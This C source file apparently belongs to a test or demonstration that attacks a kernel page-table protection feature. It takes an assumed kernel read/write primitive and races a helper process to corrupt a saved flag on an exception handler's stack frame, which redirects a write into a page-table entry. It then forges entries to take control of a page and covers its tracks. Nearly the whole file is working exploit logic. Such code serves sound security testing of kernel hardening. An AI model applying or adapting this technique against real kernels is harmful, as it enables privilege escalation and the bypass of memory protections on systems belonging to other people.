// SPDX-License-Identifier: GPL-2.0-only
/*
 * Have an exception handler of the kernel return to a level at which page tables
 * can be written, by altering what it keeps on the stack of the code that it
 * interrupted: whether that was raised.
 *
 * One of the attacker's processes makes a system call with writes in it, and
 * gets stuck in a handler. Another one alters a word below the frame and, when
 * that is done, has the next write go to a page-table entry. Where the flag is
 * depends on the compiler. An attacker would know; this one tries all words that
 * can be it, each in a new process, as it is the last thing that one does if the
 * write is refused.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <poll.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "raise.h"

/* No candidate. */
#define NONE		(~0U)

/* How a process of a try ends. */
#define EXIT_DONE	0
#define EXIT_REFUSED	10	/* the write, with a frame altered */
#define EXIT_MISSED	11	/* no frame was met */
#define EXIT_STUCK	12	/* said of one that did not end by itself */

#define ROUNDS		50
#define RETRIES		20
#define MISSES		3
#define PASSES		2

/* Longer than a try takes on a busy machine that is emulated. */
#define TRY_MS		30000
#define KILLED_MS	3000

static const struct raising *how;

/* Where candidate @i is; returns whether it can be the flag, now clear. */
static bool candidate(const struct kpkeys_vuln_frame *f, unsigned int i,
		      u64 *addr, u64 *value)
{
	u64 mask = how->masks[i / how->words];

	*addr = f->regs - (i % how->words + 1) * sizeof(u64);
	if (*addr < f->sp)
		return false;
	*value = vuln_read(*addr);
	/*
	 * Neither an address nor anything else that is large. A flag in the
	 * upper half is beside whatever was in the lower one before.
	 */
	if (*value >> 32 || *value & mask)
		return false;
	*value |= mask;
	return true;
}

static unsigned int candidates(void)
{
	return how->words * ARRAY_SIZE(how->masks);
}

static bool at_rest(pid_t victim, const struct kpkeys_vuln_frame *f)
{
	struct kpkeys_vuln_frame now = vuln_frame(victim);

	return now.regs == f->regs && now.sp == f->sp &&
	       now.asleep == f->asleep;
}

/*
 * Alter the first candidate from r->first on, in a frame of @victim. Returns
 * whether that was in time: then the next write is the one that counts.
 */
bool alter_frame(struct raise *r, pid_t victim, const struct kpkeys_vuln_frame *f)
{
	u64 addr = 0, value = 0;
	unsigned int i;

	for (i = r->first; i < candidates(); i++)
		if (candidate(f, i, &addr, &value))
			break;
	/* Leave a stack in use alone. */
	if (!at_rest(victim, f))
		return false;
	r->tried = i;
	if (i == candidates())
		return false;
	vuln_write(addr, value);
	return at_rest(victim, f);
}

/* Have r->write done. Returns whether it was; if not, see r->refused. */
static bool try_write(struct raise *r)
{
	const struct timespec pause = { .tv_nsec = 1000 * 1000 };
	int round;

	for (round = 0; round < ROUNDS; round++) {
		size_t i;

		for (i = 0; i < how->writes; i++) {
			r->list[i].addr = r->progress_addr;
			r->list[i].value = i + 1;
		}
		r->progress = 0;
		r->round++;
		/* All that is used until the next switch has to be mapped. */
		errno = 0;
		nanosleep(&pause, NULL);
		if (how->wait)
			how->wait(r);
		r->busy = true;
		r->refused = !how->make(r);
		r->busy = false;
		/* The next wait must not be taken for the one in the handler. */
		while (r->idle != r->round)
			;
		/*
		 * A switch to another task clears what a wrong word has done,
		 * with which this one does not survive a page fault.
		 */
		nanosleep(&pause, NULL);
		if (vuln_read(r->write.addr) == r->write.value)
			return true;
		if (r->refused || r->tried == candidates())
			return false;
	}
	return false;
}

/* One process, which has the frame, and its helper. */
static noreturn void try_one(struct raise *r, const char *path)
{
	struct own_page page = own_page(path);
	pid_t victim = getpid(), helper;
	int i;

	r->write.addr = page.addr;
	r->write.value = page.forged;
	helper = fork();
	if (helper < 0)
		die_errno("fork");
	if (!helper) {
		if (prctl(PR_SET_PDEATHSIG, SIGKILL) || getppid() != victim)
			_exit(1);
		how->alter(r, victim);
		_exit(0);
	}
	r->helper = helper;
	how->prepare(r);

	if (!try_write(r))
		_exit(r->refused ? EXIT_REFUSED : EXIT_MISSED);
	own_page_use(&page);

	/* Cover the tracks: the page is not this process's to free at exit. */
	r->first = r->tried;
	r->write.value = page.value;
	for (i = 0; i < RETRIES; i++)
		if (try_write(r))
			break;
	own_page_sync(&page);
	kill(helper, SIGKILL);
	_exit(EXIT_DONE);
}

/* Without any of this, for which the kernel has one answer if it is protected. */
static int write_plainly(const char *path)
{
	struct own_page page = own_page(path);

	vuln_write(page.addr, page.forged);
	own_page_use(&page);
	vuln_write(page.addr, page.value);
	own_page_sync(&page);
	return 0;
}

static void *share(size_t length)
{
	void *p = mmap(NULL, length, PROT_READ | PROT_WRITE,
		       MAP_SHARED | MAP_ANONYMOUS, -1, 0);

	if (p == MAP_FAILED)
		die_errno("mmap");
	return p;
}

static bool ends_within(pid_t pid, int ms)
{
	struct pollfd end = {
		.fd = syscall(SYS_pidfd_open, pid, 0),
		.events = POLLIN,
	};
	int ended;

	if (end.fd < 0)
		die_errno("pidfd_open");
	ended = poll(&end, 1, ms);
	if (ended < 0)
		die_errno("poll");
	close(end.fd);
	return ended;
}

/* Returns the exit status of a process with one try. */
static int try_in_process(struct raise *r, const char *path)
{
	int status, reaped;
	bool ended;
	pid_t pid;

	r->tried = NONE;
	r->helper = 0;
	pid = fork();
	if (pid < 0)
		die_errno("fork");
	if (!pid)
		try_one(r, path);

	ended = ends_within(pid, TRY_MS);
	if (!ended) {
		kill(pid, SIGKILL);
		ends_within(pid, KILLED_MS);
	}
	reaped = waitpid(pid, &status, WNOHANG);
	if (reaped < 0 && errno != ECHILD)
		die_errno("waitpid");
	if (!ended || reaped != pid) {
		/* One that faulted once more as it died leaves this to do. */
		if (r->helper)
			kill(r->helper, SIGKILL);
		return EXIT_STUCK;
	}
	/* A refused write is the end of a process if no place expects faults. */
	return WIFEXITED(status) ? WEXITSTATUS(status) : EXIT_REFUSED;
}

int attack_by_raising(const struct raising *way, const char *path)
{
	struct raise *r = share(sizeof(*r));
	unsigned int refused = 0, missed = 0, pass = 0;

	how = way;
	r->list = share(way->writes * sizeof(*r->list));
	r->progress_addr = vuln_mm(r).linear + offsetof(struct raise, progress);
	if (way->begin)
		way->begin();
	while (pass < PASSES) {
		int status = try_in_process(r, path);

		if (status == EXIT_DONE)
			return 0;
		if (r->tried == candidates()) {
			r->first = 0;
			pass++;
		} else if (r->tried == NONE || status == EXIT_MISSED) {
			if (++missed == MISSES)
				die("no handler was met that waits");
		} else {
			/* Else the word was something that the call needs. */
			refused += status == EXIT_REFUSED;
			r->first = r->tried + 1;
		}
	}
	if (!refused)
		die("no word can be the flag");
	return write_plainly(path);
}
